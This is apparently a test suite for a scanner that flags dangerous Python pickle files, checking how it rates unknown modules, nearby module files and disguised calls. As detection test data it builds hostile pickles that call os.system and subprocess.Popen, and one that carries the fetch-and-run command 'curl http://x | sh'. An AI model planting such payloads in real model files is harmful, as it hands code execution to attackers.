import { MemorySource } from '../bytes/memory';
import { scan } from '..';
import { blob, bytes, call, glob, proto, run, sglob, str } from '../testing';

const newobj = (module: string, name: string): Uint8Array => bytes(sglob(module, name), ')', 0x81);
const pair = (a: Uint8Array, b: Uint8Array): Uint8Array => bytes(a, b, 0x86);
const none = bytes('N');
const one = bytes('K', 1);
const two = bytes('K', 2);

const held = (module: string, name: string): Uint8Array => proto(4, '](', sglob(module, name), 'e');

describe('a name that is never called', () => {
  test('imports its module: of an unknown package it needs review', () => {
    const { verdict, findings } = run(held('pwnhelper.tools', 'greet'));
    expect(verdict).toBe('review');
    expect(findings).toMatchObject([{ rule: 'pickle-unknown-reference', severity: 'LOW', module: 'pwnhelper.tools' }]);
  });

  test.each([
    ['a module', 'pwnhelper.py'],
    ['a compiled module', 'pwnhelper.pyc'],
    ['a package', 'pwnhelper/'],
    ['a native library', 'pwnhelper.cpython-311-x86_64-linux-gnu.so'],
    ['a library of Windows', 'pwnhelper.pyd']
  ])('is HIGH when %s of that name lies beside the file', (_what, name) => {
    const beside = ['model.pkl', name, 'pwnhelper2.py'];
    const { findings } = scan(new MemorySource(held('pwnhelper.tools', 'greet')), 'model.pkl', { beside });
    expect(findings).toMatchObject([{ rule: 'pickle-unknown-reference', severity: 'HIGH', params: { beside: name } }]);
  });

  test.each(['pwnhelper2.py', 'pwnhelper', 'pwnhelper.txt', 'pwnhelper.py.bak', 'my_pwnhelper.py', 'PWNHELPER.py'])(
    'stays LOW beside %s',
    name => {
      const { findings } = scan(new MemorySource(held('pwnhelper', 'greet')), 'model.pkl', { beside: [name] });
      expect(findings.map(({ severity }) => severity)).toEqual(['LOW']);
    }
  );

  test.each([
    ['torch.utils.data.dataloader', 'DataLoader'],
    ['torch.utils.data._utils.collate', 'default_collate'],
    ['sklearn.svm._classes', 'SVC'],
    ['numpy', 'function_of_tomorrow'],
    ['omegaconf.dictconfig', 'DictConfig'],
    ['skorch.dataset', 'Dataset'],
    ['__future__', 'annotations'],
    ['__main__', 'Net']
  ])('%s.%s is quiet', (module, name) => {
    expect(run(held(module, name)).findings).toEqual([]);
  });

  test('is said once where a call of the same package says it already', () => {
    const file = proto(4, '](', newobj('mylib', 'Net'), sglob('mylib.layers', 'gelu'), 'e');
    expect(run(file).findings.map(({ rule }) => rule)).toEqual(['pickle-unknown-call']);
  });
});

test('a class that is looked up before its mark is missing', () => {
  expect(run(proto(2, 'ipwn\nrun\n')).findings).toMatchObject([{ rule: 'pickle-unknown-reference', module: 'pwn' }]);
});

describe('honest files that name what sounds dangerous', () => {
  test.each([
    [
      'a bound method of a pattern',
      proto(
        4,
        call(sglob('builtins', 'getattr'), call(sglob('re', '_compile'), str('a'), bytes('K', 32)), str('search'))
      )
    ],
    ['the backend of torch 1.2', proto(2, call(glob('torch.nn.backends.thnn', '_get_thnn_function_backend')))],
    [
      'a function of SymPy',
      proto(4, bytes(call(sglob('sympy.core.function', '_rebuild_undef'), str('f')), pair(one, two), 0x81))
    ],
    ['a feature of the language', proto(2, glob('__future__', 'annotations'))],
    ['__new__ written out', proto(4, call(sglob('Bio.Align', 'Alignment.__new__'), sglob('Bio.Align', 'Alignment')))],
    ['settings of a trainer', proto(4, newobj('deepspeed.runtime.fp16.loss_scaler', 'LossScaler'))],
    [
      'a list that TensorFlow watches',
      proto(2, call(glob('tensorflow.python.trackable.data_structures', 'ListWrapper'), bytes(']')))
    ]
  ])('%s is clean', (_what, file) => {
    expect(run(file).findings).toEqual([]);
  });

  test.each([
    [
      'a partial of a class that fetches when it is called',
      proto(4, call(sglob('functools', 'partial'), sglob('sentence_transformers', 'SentenceTransformer')))
    ]
  ])('%s is LOW', (_what, file) => {
    const { verdict } = run(file);
    expect(verdict).toBe('review');
  });

  test('a nested pickle is as bad as what it holds', () => {
    const vocabulary = (inner: Uint8Array): Uint8Array =>
      proto(4, call(sglob('spacy.tokens.doc', 'unpickle_doc'), blob(inner)));
    expect(run(vocabulary(proto(4, '}', str('a'), 'K', 1, 's'))).verdict).toBe('review');
    const evil = run(vocabulary(proto(4, call(sglob('os', 'system'), str('echo hi')))));
    expect(evil.findings.some(({ module, severity }) => module === 'os' && severity === 'CRITICAL')).toBe(true);
  });
});

test('a member of an enumeration beside stores that make folders needs review only', () => {
  expect(run(proto(4, call(sglob('blosc2.core', 'Codec'), bytes('K', 5)))).verdict).toBe('review');
});

describe('the same names do not help an attacker', () => {
  test.each([
    [
      'a text for a function of SymPy',
      proto(4, bytes(call(sglob('sympy.core.function', '_rebuild_undef'), str('f')), pair(str('x'), none), 0x81))
    ],
    [
      'such a class is called',
      proto(4, bytes(call(sglob('sympy.core.function', '_rebuild_undef'), str('f')), pair(none, none), 'R'))
    ],
    [
      'a computed argument',
      proto(
        4,
        bytes(
          call(sglob('sympy.core.function', '_rebuild_undef'), str('f')),
          pair(call(sglob('builtins', 'str'), none), none),
          0x81
        )
      )
    ],
    ['__new__ of something dangerous', proto(4, call(sglob('mylib', 'Net.__new__'), sglob('subprocess', 'Popen')))],
    ['__new__ of no class', proto(4, call(sglob('mylib', 'Net.__new__'), str('a')))],
    ['__init__ written out', proto(4, call(sglob('mylib', 'Net.__init__'), sglob('mylib', 'Net')))],
    [
      'a method of a pattern is called',
      proto(
        4,
        call(
          call(sglob('builtins', 'getattr'), call(sglob('re', '_compile'), str('a')), str('sub')),
          sglob('os', 'system'),
          str('a')
        )
      )
    ],
    ['a configuration is read', proto(4, call(sglob('omegaconf', 'OmegaConf.load'), str('a')))],
    ['a cache that makes its folder', proto(4, call(sglob('joblib.memory', 'Memory'), str('a')))],
    ['a store that makes its folder', proto(4, call(sglob('blosc2.dict_store', 'DictStore'), str('a')))],
    ['a writer of tables', proto(4, call(sglob('distlib.util', 'CSVWriter'), str('a')))],
    ['the volume of an archive', proto(4, call(sglob('multivolumefile', 'MultiVolume'), str('a'), str('w')))],
    ['a class that fetches', proto(4, call(sglob('sentence_transformers', 'SentenceTransformer'), str('a')))],
    [
      'the backend with an argument',
      proto(2, call(glob('torch.nn.backends.thnn', '_get_thnn_function_backend'), str('a')))
    ],
    [
      'a pickle in front of a command',
      proto(4, call(sglob('mylib', 'f'), bytes('C', 4, 0x80, 4, 'N.'), str('curl http://x | sh')))
    ]
  ])('%s is unsafe', (_what, file) => {
    expect(run(file).verdict).toBe('unsafe');
  });
});
